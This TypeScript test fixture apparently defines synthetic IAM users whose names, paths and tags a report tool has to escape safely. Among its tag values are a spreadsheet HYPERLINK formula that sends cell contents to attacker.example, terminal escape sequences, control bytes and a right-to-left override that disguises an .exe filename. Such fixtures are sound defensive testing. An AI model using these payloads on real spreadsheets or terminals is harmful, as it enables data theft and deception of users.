import { used, type UserSpec } from '../make-principals.js';
import { daysBefore } from '../time.js';
import { type AccountCase, accountCase, type UserCase, usersIn } from './case.js';
import { MAIL_DOMAIN, REPORT_AT } from './company.js';

const healthy: UserSpec = {
  createdAt: daysBefore(REPORT_AT, 410.3),
  keys: [{ createdAt: daysBefore(REPORT_AT, 90.5), lastUsed: used(daysBefore(REPORT_AT, 0.7), 'sts') }],
};

const checkout = usersIn('checkout-dev');
const platform = usersIn('sandbox-platform');

function tagged(value: string, key = 'Note'): UserSpec {
  return { ...healthy, tags: { Owner: `team-atlas@${MAIL_DOMAIN}`, [key]: value } };
}

const escape = '\u001b';
const rightToLeft = '\u202e';

const names: readonly UserCase[] = [
  checkout('name-with-comma', 25, 'A comma in the name, quoted in the report.', 'marchbank,anna', healthy),
  checkout('name-begins-with-equals', 25, 'A legal name that a spreadsheet takes for a formula.', '=1+1', healthy),
  checkout('name-begins-with-plus', 25, 'A plus sign first.', '+44-oncall', healthy),
  checkout('name-begins-with-minus', 25, 'A minus sign first.', '-2+3', healthy),
  checkout('name-begins-with-at', 25, 'An at sign first.', '@sum', healthy),
  checkout(
    'mail-address-as-name',
    45,
    'A mail address as name, as single sign-on migrations leave them.',
    `greta.osterfeld@${MAIL_DOMAIN}`,
    healthy,
  ),
  checkout(
    'longest-name',
    45,
    '64 characters, the most that IAM allows.',
    `pipeline_${'very-long-component-name_'.repeat(2)}eu-w1`.padEnd(64, '0'),
    healthy,
  ),
  checkout('deep-path', 45, 'The path stands in the ARN; the name is its last segment.', 'line-supervisor', {
    ...healthy,
    path: '/company/operations/warehouses/north-sea/hall-7/shift-b/',
  }),
  checkout('longest-path', 45, 'A path near the limit of 512 characters.', 'archive-reader', {
    ...healthy,
    path: `/${'level-of-the-tree/'.repeat(28)}`,
  }),
  platform(
    'name-with-bare-comma',
    25,
    'A comma in the name, not quoted in this report: the row has two fields too many.',
    'dunmoor,iris',
    healthy,
  ),
  platform('name-with-two-bare-commas', 25, 'Two commas, not quoted.', 'sync,eu,nightly', healthy),
];

const tags: readonly UserCase[] = [
  checkout('tag-with-spaces', 29, 'Spaces in key and value.', 'hall-scheduler', tagged('second shift, gate 4', 'Shift Plan')),
  checkout('tag-in-unicode', 29, 'Letters of several scripts.', 'lagerbestand-abgleich', tagged('Überführung Łódź 倉庫 склад')),
  checkout('tag-with-emoji', 29, 'A wide character in a tag.', 'harbour-lights', tagged('🚢 night shift 👩‍🔧')),
  checkout(
    'tag-formula',
    25,
    'A tag value that a spreadsheet would compute.',
    'formula-tag',
    tagged('=HYPERLINK("https://attacker.example/?x="&A1,"open")'),
  ),
  checkout(
    'tag-terminal-escape',
    25,
    'A tag value with terminal escape sequences.',
    'escape-tag',
    tagged(`${escape}[2J${escape}[31mred${escape}]0;title\u0007`),
  ),
  checkout(
    'tag-c1-control',
    25,
    'The one-byte form of an escape sequence, and a line break.',
    'control-tag',
    tagged('before\u009b31mafter\nnext line\ttab'),
  ),
  checkout(
    'tag-bidirectional',
    25,
    'A direction override that turns the rest of a line around.',
    'bidi-tag',
    tagged(`gnp.${rightToLeft}txt.exe`),
  ),
  checkout('owner-tag', 29, 'The owner in the tag that --owner-tag reads by default.', 'owned-service', tagged('see wiki')),
  checkout('owner-tag-other-case', 29, 'The owner in a tag of another case.', 'lowercase-owner', {
    ...healthy,
    tags: { owner: 'rosalba.silverdale' },
  }),
  checkout('no-owner-tag', 29, 'No tags at all.', 'unowned-service', healthy),
];

/** Users whose names, paths and tags are hard to write down safely. */
export const nameCases: readonly UserCase[] = [...names, ...tags];

export const nameAccounts: readonly AccountCase[] = [
  accountCase('sandbox-platform', 'report-without-quotes', 25, 'The report leaves names with commas bare.', {
    report: { quoteCommas: false },
  }),
];
